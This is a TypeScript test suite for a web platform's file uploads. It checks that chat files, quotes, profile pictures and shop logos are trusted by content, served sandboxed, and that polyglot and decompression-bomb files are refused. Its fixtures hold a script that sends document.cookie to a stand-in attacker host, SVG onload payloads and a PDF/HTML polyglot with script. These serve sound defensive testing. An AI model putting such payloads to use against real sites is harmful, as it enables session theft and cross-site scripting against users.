import { DEMO_COMPANIES } from './application/demo-seed';
import { quotePdf } from './testing/design-files';
import { graphql, graphqlUpload, signIn, type GraphQLResponse, type UploadedFile } from './testing/graphql-client';
import { pngImage } from './testing/images';
import { createOrderWithDesign } from './testing/orders';
import { startTestServer, type TestServer } from './testing/test-server';

const alpha = DEMO_COMPANIES[1].manufacturerId!;
const customerCompany = DEMO_COMPANIES[0].companyId;
const address = { recipient: 'Demo Customer GmbH', country: 'DE', addressLine1: 'Hauptstr. 1', zipcode: '10115', city: 'Berlin' };
const HTML = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
const text = (value: string) => new TextEncoder().encode(value);
const codeOf = (response: GraphQLResponse) => response.errors?.[0]?.extensions?.code;
function data<T>(response: GraphQLResponse<Record<string, T>>): T {
  if (response.errors) throw new Error(JSON.stringify(response.errors));
  return Object.values(response.data!)[0];
}

describe('files are trusted by their content, never by their label', () => {
  let server: TestServer;
  const tokens: Record<string, string> = {};
  let orderId: string;

  beforeAll(async () => {
    server = await startTestServer();
    for (const user of ['customer1', 'producer1', 'admin']) tokens[user] = await signIn(server.url, user);
    const created = data<{ orders: { id: string }[] }>(
      await createOrderWithDesign(server.url, { name: 'Label board', manufacturers: [alpha], shippingAddress: address, billingAddress: address, asCompany: customerCompany }, tokens.customer1, 'orders { id }'),
    );
    orderId = created.orders[0].id;
  }, 60_000);
  afterAll(() => server?.close());

  const sendChatFile = async (file: UploadedFile) => {
    const sent = data<{ fileId: string }>(
      await graphqlUpload(server.url, 'mutation ($c: ID!, $f: Upload!) { sendNewFileMessage(chatId: $c, file: $f) { fileId } }', { c: orderId, f: null }, { 'variables.f': file }, tokens.producer1),
    );
    const { rows } = await server.system.services.db.query<{ path: string }>('select path from stored_files where id = $1', [sent.fileId]);
    return fetch(`${server.url}${rows[0].path}`, { headers: { authorization: `Bearer ${tokens.customer1}` } });
  };
  const quote = (file: UploadedFile) => graphqlUpload(server.url, 'mutation ($q: Upload!, $o: ID!) { updateOrderQuote(quote: $q, orderId: $o) { id } }', { q: null, o: orderId }, { 'variables.q': file }, tokens.producer1);
  const profilePicture = (file: UploadedFile) =>
    graphqlUpload<Record<string, { logoPath: string | null }>>(server.url, 'mutation ($u: UserInput!, $p: Upload) { updateUser(user: $u, profilePicture: $p) { logoPath } }', { u: {}, p: null }, { 'variables.p': file }, tokens.customer1);
  const currentPicture = async () => data<{ user: { logoPath: string | null } }>(await graphql(server.url, '{ me { user { logoPath } } }', {}, tokens.customer1)).user.logoPath;

  test.each([
    ['page.html', 'text/html'],
    ['logo.svg', 'image/svg+xml'],
    ['notes.txt', 'text/plain'],
  ])('a chat file %s labelled %s is served as sandboxed bytes to download, never as its label', async (name, type) => {
    const content = name.endsWith('.svg') ? `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${HTML}</svg>` : HTML;
    const served = await sendChatFile({ name, bytes: text(content), type });
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('application/octet-stream');
    expect(served.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(served.headers.get('content-security-policy')).toMatch(/sandbox/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  });

  test('a chat file that is a PDF is served as a PDF whatever its label, still as a sandboxed download', async () => {
    const served = await sendChatFile({ ...quotePdf(), name: 'offer.html', type: 'text/html' });
    expect(served.headers.get('content-type')).toBe('application/pdf');
    expect(served.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(served.headers.get('content-security-policy')).toMatch(/sandbox/);
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
  });

  test('a 68-byte PDF/HTML polyglot is no quote (QUOTE_ADD_FAILED), a real PDF is', async () => {
    const polyglot = text('%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n%%EOF\n');
    expect(polyglot.byteLength).toBe(68);
    const refused = await quote({ name: 'quote.pdf', bytes: polyglot, type: 'application/pdf' });
    expect(codeOf(refused)).toBe('QUOTE_ADD_FAILED');
    expect(refused.errors?.[0]?.message).toMatch(/PDF/);
    expect(data(await graphql(server.url, `{ fetchOrder(orderId: "${orderId}") { orders { quote { id } } } }`, {}, tokens.producer1))).toMatchObject({ orders: [{ quote: null }] });
    expect((await quote(quotePdf())).errors).toBeUndefined();
  });

  test('a quote opens in the browser\'s viewer by a short-lived URL ending in its name; strangers and other files get none', async () => {
    expect((await quote({ ...quotePdf(), name: 'Angebot 118.pdf' })).errors).toBeUndefined();
    const superOrder = data<{ orders: { quote: { filename: string; file: { path: string } } }[] }>(
      await graphql(server.url, `{ fetchOrder(orderId: "${orderId}") { orders { quote { filename file { path } } } } }`, {}, tokens.customer1),
    );
    const { filename, file } = superOrder.orders[0].quote;
    const ask = (path: string, token?: string) => fetch(`${server.url}${path}/view`, { method: 'POST', headers: token ? { authorization: `Bearer ${token}` } : {} });

    const asked = await ask(file.path, tokens.customer1);
    expect(asked.status).toBe(200);
    const { url } = (await asked.json()) as { url: string };
    expect(url).toMatch(new RegExp(`^/files/view/[^/]+/${encodeURIComponent(filename)}$`));
    // The viewer loads it without a token: the ticket is the permission, framed only by this site.
    const shown = await fetch(`${server.url}${url}`);
    expect(shown.status).toBe(200);
    expect(shown.headers.get('content-type')).toBe('application/pdf');
    expect(shown.headers.get('content-disposition')).toMatch(/^inline;/);
    expect(shown.headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'self'");
    expect(shown.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(Buffer.from(await shown.arrayBuffer()).subarray(0, 5).toString()).toBe('%PDF-');

    const ticket = url.split('/')[3];
    const forged = url.replace(ticket, ticket.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')));
    const refusedTicket = await fetch(`${server.url}${forged}`);
    expect(refusedTicket.status).toBe(404);
    expect(await refusedTicket.json()).toMatchObject({ code: 'MISSING_RESOURCE' });
    expect((await ask(file.path)).status).toBe(401);
    expect((await ask(file.path, tokens.admin)).status).toBe(200);
    expect((await ask(file.path.replace(/^\/files\/[^/]+/, '/files/00000000-0000-4000-8000-000000000000'), tokens.customer1)).status).toBe(404);

    // A PDF sent in the chat is a producer's file the server did not check: it is downloaded, never shown.
    const sent = data<{ fileId: string }>(
      await graphqlUpload(server.url, 'mutation ($c: ID!, $f: Upload!) { sendNewFileMessage(chatId: $c, file: $f) { fileId } }', { c: orderId, f: null }, { 'variables.f': quotePdf() }, tokens.producer1),
    );
    const { rows } = await server.system.services.db.query<{ path: string }>('select path from stored_files where id = $1', [sent.fileId]);
    const refused = await ask(rows[0].path, tokens.customer1);
    expect(refused.status).toBe(400);
    expect(await refused.json()).toMatchObject({ code: 'INVALID_INPUT' });
  });

  test('a GIF/HTML polyglot is no profile picture, and nothing changes', async () => {
    const before = await currentPicture();
    const refused = await profilePicture({ name: 'me.gif', bytes: text(`GIF89a\u0001\u0000\u0001\u0000${HTML}`), type: 'image/gif' });
    expect(codeOf(refused)).toBe('PROFILE_IMAGE_UPDATE_FAILED');
    expect(await currentPicture()).toBe(before);
  });

  test('a PNG announcing 100,000 by 100,000 pixels is refused before it is decoded', async () => {
    const bomb = pngImage();
    new DataView(bomb.buffer, bomb.byteOffset).setUint32(16, 100_000);
    new DataView(bomb.buffer, bomb.byteOffset).setUint32(20, 100_000);
    expect(codeOf(await profilePicture({ name: 'me.png', bytes: bomb, type: 'image/png' }))).toBe('PROFILE_IMAGE_UPDATE_FAILED');
  });

  test('a real picture labelled as HTML is kept re-encoded and served as the image it is', async () => {
    const { logoPath } = data(await profilePicture({ name: 'me.html', bytes: pngImage(), type: 'text/html' }));
    const served = await fetch(`${server.url}${logoPath}`);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toMatch(/sandbox/);
    expect(new Uint8Array(await served.arrayBuffer())).toEqual(pngImage());
  });

  test('a shop logo of HTML or SVG is refused; a PNG logo is served as an image', async () => {
    const createShop = (hostname: string, logo: UploadedFile) =>
      graphqlUpload<Record<string, string>>(server.url, 'mutation ($s: ShopInput!, $l: Upload) { createShop(shop: $s, logo: $l) }', { s: { hostname, manufacturerId: alpha, authenticationClient: `shop-${hostname.split('.')[0]}`, createDemoOrder: false }, l: null }, { 'variables.l': logo }, tokens.admin);
    expect(codeOf(await createShop('html.localhost', { name: 'logo.png', bytes: text(HTML), type: 'image/png' }))).toBe('INVALID_INPUT');
    expect(codeOf(await createShop('svg.localhost', { name: 'logo.svg', bytes: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), type: 'image/svg+xml' }))).toBe('INVALID_INPUT');
    const shopId = data<string>(await createShop('logo.localhost', { name: 'logo.png', bytes: pngImage(), type: 'image/png' }));
    const served = await fetch(`${server.url}/shops/${shopId}/logo`);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('content-security-policy')).toMatch(/sandbox/);
  });
});
